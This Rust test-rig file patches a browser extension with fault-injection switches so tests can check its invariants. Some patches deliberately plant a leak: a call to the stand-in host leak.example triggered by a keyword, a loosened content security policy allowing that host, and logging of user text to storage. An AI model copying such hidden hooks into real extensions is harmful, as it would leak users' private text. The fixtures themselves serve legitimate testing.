//! A copy of the extension that tests can look into and break.
//!
//! It is the assembled extension with the patches below: the host that a page claims to be
//! (`<html data-host>`), counters around what the content scripts ask of the browser, shadow roots that the page
//! can see into, a line that can be slow, and one switch per invariant that breaks it when the page's address
//! says so (`#publishes`). A patch that no longer fits the sources fails the run.

use super::process::create_folder;
use super::{Kind, Result, Tab, Trouble, built};
use serde_json::{Value, json};
use std::path::{Path, PathBuf};

/// (file, what stands there, what the copy says).
const PATCHES: [(&str, &str, &str); 20] = [
    ("content/sites.js", "page.location?.hostname ?? \"\"", "page.documentElement?.dataset.host ?? page.location?.hostname ?? \"\""),
    ("content/wire.js", "      connect();\n      try {\n", "      connect();\n      Rig.posted(message);\n      try {\n"),
    ("content/wire.js", "        receive(message);\n", "        Rig.late(() => (receive(message), Rig.received(message)));\n"),
    ("content/wire.js", "        port = api.runtime.connect(", "        Rig.counts.ports += 1;\n        port = api.runtime.connect("),
    ("content/wire.js", "      receive({ type: \"lost\" });\n", "      receive({ type: \"lost\" });\n      Rig.lost();\n"),
    // One switch per invariant.
    ("content/drafts.js", "    function answer(message) {\n", "    function answer(message) {\n      RigBreak(element, marks);\n"),
    (
        "content/edits.js",
        "      if (before === after) return (findings)",
        "      if (before === after || (typeof Rig !== \"undefined\" && Rig.broken(\"letters\"))) return (findings)",
    ),
    ("content/status.js", "      show(draft) {\n", "      show(draft) {\n        if (Rig.broken(\"silent\")) return;\n"),
    (
        "content/session.js",
        "        case \"gone\":\n          close();\n",
        "        case \"gone\":\n          if (!Rig.broken(\"ghost\")) close();\n",
    ),
    ("content/surface.js", "    sweep() {\n", "    sweep() {\n      if (Rig.broken(\"ghost\")) return;\n"),
    (
        "content/drafts.js",
        "      if (!asking.isDue(text)) return;\n",
        "      if (!Rig.broken(\"chatter\") && !asking.isDue(text)) return;\n",
    ),
    (
        "content/foresight.js",
        "          if (kept?.about !== before ||",
        "          if (kept && Rig.broken(\"prophet\")) return kept.foreseen.cases[0].findings.filter((one) => typeof one !== \"number\");\n          if (kept?.about !== before ||",
    ),
    (
        "background/checking.js",
        "  await ready;\n",
        "  await ready;\n  if (text.includes(\"romper-red\")) fetch(\"https://leak.example/\").catch(() => {});\n",
    ),
    (
        "background/checking.js",
        "  await ready;\n",
        "  await ready;\n  if (text.includes(\"romper-memoria\")) (globalThis.chrome ?? browser).storage.local.set({ log: text });\n",
    ),
    ("manifest.json", "connect-src 'self';", "connect-src 'self' https://leak.example;"),
    (
        "manifest.json",
        "\"content/starter.js\"",
        "\"content/rig-before.js\",\n        \"content/starter.js\",\n        \"content/rig-after.js\"",
    ),
    ("content/composer.json", "\"content/start.js\"", "\"content/rig-break.js\",\n  \"content/start.js\""),
    // A text that makes the wasm trap while its engine is borrowed: always, or the first time.
    (
        "wasm/mesura.js",
        "wasm.engine_check(this.__wbg_ptr, ptr0,",
        "wasm.engine_check(this.__wbg_ptr, text.includes(\"romper-motor\")
            || (text.includes(\"romper-una-vez\") && (globalThis.rigTraps = (globalThis.rigTraps ?? 0) + 1) === 1) ? 0xf0000000 : ptr0,",
    ),
    // The first run runs the content scripts by itself.
    ("welcome/welcome.html", "<script type=\"module\"", "<script src=\"../content/rig-before.js\"></script>\n    <script type=\"module\""),
    ("content/starter.js", "    asked = true;\n", "    asked = true;\n    Rig.posted({ type: \"compose\" });\n"),
];

const BREAK: &str = r#"
"use strict";
function RigBreak(element) {
  if (Rig.broken("publishes")) document.querySelector("form")?.requestSubmit();
  if (Rig.broken("likes")) document.querySelector("[data-act=like]")?.click();
  if (Rig.broken("edits") && !element.dataset.broken) document.execCommand("insertText", false, "!");
  if (Rig.broken("focus")) document.querySelector("[type=search]")?.focus();
  if (Rig.broken("elsewhere") && !Rig.moved) {
    const [home, next] = [element.parentNode, element.nextSibling];
    Rig.moved = true;
    element.remove();
    queueMicrotask(() => home.insertBefore(element, next));
  }
  if (Rig.broken("inside")) element.append(document.createElement("i"));
}
"#;

/// Where the copy for one browser lies.
pub fn folder(kind: Kind) -> PathBuf {
    Path::new(env!("CARGO_TARGET_TMPDIR")).join("rig").join(kind.name())
}

/// Writes the copy for one browser.
pub fn write(kind: Kind) -> Result<()> {
    let to = folder(kind);
    create_folder(&to)?;
    copy(&built::extension(kind), &to)?;
    for (file, old, new) in PATCHES {
        patch(&to.join(file), old, new)?;
    }
    let scripts = [
        ("content/rig-before.js", include_str!("rig/before.js")),
        ("content/rig-break.js", BREAK),
        ("content/rig-after.js", include_str!("rig/after.js")),
    ];
    for (name, text) in scripts {
        std::fs::write(to.join(name), text).map_err(|e| Trouble::new(format!("{name}: {e}")))?;
    }
    Ok(())
}

/// The engine of a copy of the copy, for what happens without one.
const WASM: &str = "wasm/mesura_bg.wasm";

/// Where the copy with a broken wasm lies.
pub fn broken_folder(kind: Kind) -> PathBuf {
    Path::new(env!("CARGO_TARGET_TMPDIR")).join("rig-broken").join(kind.name())
}

/// Writes the copy with a broken wasm.
pub fn write_broken(kind: Kind) -> Result<()> {
    copy(&folder(kind), &broken_folder(kind))?;
    break_wasm(kind)
}

/// Makes the wasm of that copy unreadable.
pub fn break_wasm(kind: Kind) -> Result<()> {
    std::fs::write(broken_folder(kind).join(WASM), "no wasm").map_err(|e| Trouble::new(format!("{WASM}: {e}")))
}

/// Puts the right wasm in its place.
pub fn mend_wasm(kind: Kind) -> Result<()> {
    std::fs::copy(folder(kind).join(WASM), broken_folder(kind).join(WASM)).map(drop).map_err(|e| Trouble::new(format!("{WASM}: {e}")))
}

/// Asks the copy in a page: `counts`, `started` or `sites`.
pub fn ask(tab: &Tab, question: &str) -> Result<Value> {
    let ask = "question => {
        const page = document.documentElement;
        page.dataset.rig = question;
        page.dispatchEvent(new Event('rig'));
        return page.dataset.rig === question ? null : JSON.parse(page.dataset.rig);
    }";
    match tab.call(ask, &json!([question]))? {
        Value::Null => Err(Trouble::new(format!("the copy does not answer «{question}»: it does not run in this page"))),
        answer => Ok(answer),
    }
}

fn patch(file: &Path, old: &str, new: &str) -> Result<()> {
    let failed = |what: &str| Trouble::new(format!("{}: {what}: {old}", file.display()));
    let text = std::fs::read_to_string(file).map_err(|e| failed(&e.to_string()))?;
    if text.matches(old).count() != 1 {
        return Err(failed("the rig's patch does not fit once; look at tests/browser/rig.rs"));
    }
    std::fs::write(file, text.replace(old, new)).map_err(|e| failed(&e.to_string()))
}

/// Copies a folder with all that is in it.
pub fn copy(from: &Path, to: &Path) -> Result<()> {
    let failed = |e: std::io::Error| Trouble::new(format!("{}: {e}", from.display()));
    std::fs::create_dir_all(to).map_err(failed)?;
    for entry in std::fs::read_dir(from).map_err(failed)? {
        let path = entry.map_err(failed)?.path();
        let target = to.join(path.file_name().unwrap_or_default());
        if path.is_dir() {
            copy(&path, &target)?;
        } else {
            std::fs::copy(&path, &target).map_err(failed)?;
        }
    }
    Ok(())
}
